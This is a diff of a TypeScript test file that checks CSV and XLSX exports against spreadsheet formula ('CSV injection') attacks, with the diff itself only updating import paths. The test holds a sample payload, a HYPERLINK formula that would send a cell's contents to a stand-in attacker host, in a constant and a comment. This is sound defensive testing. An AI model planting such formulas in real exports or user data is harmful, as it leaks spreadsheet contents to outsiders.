@@ -1,19 +1,19 @@
 // Formulas in exports (OWASP "CSV injection"): a name such as =HYPERLINK("https://evil.example/?x="&D3,…)
-// is accepted by the registry and ends up in every export. The one CSV writer (lib/exports.ts toCsv)
+// is accepted by the registry and ends up in every export. The one CSV writer (lib/core/exports.ts toCsv)
 // writes any text cell that a spreadsheet would run as a formula with a leading single quote; every CSV
 // export (enrolments, a poule's draw and results, the import templates) goes through it. The XLSX
-// writers (lib/exports.ts xlsxBlob, lib/workbook.ts workbookBlob) write text cells as strings, never
+// writers (lib/core/exports.ts xlsxBlob, lib/core/workbook.ts workbookBlob) write text cells as strings, never
 // formulas: the same payload reads back as the text it is.
 import { inflateRawSync } from 'node:zlib';
 import { beforeAll, describe, expect, it } from 'vitest';
 import readXlsxFile from 'read-excel-file/node';
-import { i18n } from '@/lib/i18n';
+import { i18n } from '@/lib/core/i18n';
 import { bytesOf } from '@/test/blobs';
 import { enrolmentsTable, type ExportEnrolment } from '@/features/desk/export';
-import { drawTable, resultsTable } from '@/features/results/components/tables';
+import { drawTable, resultsTable } from '@/features/board/components/tables';
 import type { SnapshotEntry, SnapshotPoule } from '@/lib/board/snapshot';
-import { toCsv, xlsxBlob, type Cell, type Table } from '@/lib/exports';
-import { workbookBlob } from '@/lib/workbook';
+import { toCsv, xlsxBlob, type Cell, type Table } from '@/lib/core/exports';
+import { workbookBlob } from '@/lib/core/workbook';
 
 const PAYLOAD = '=HYPERLINK("https://evil.example/?x="&D3,"Receipt")';
 /** Every start OWASP lists (and their full-width forms), each with a harmless tail. */
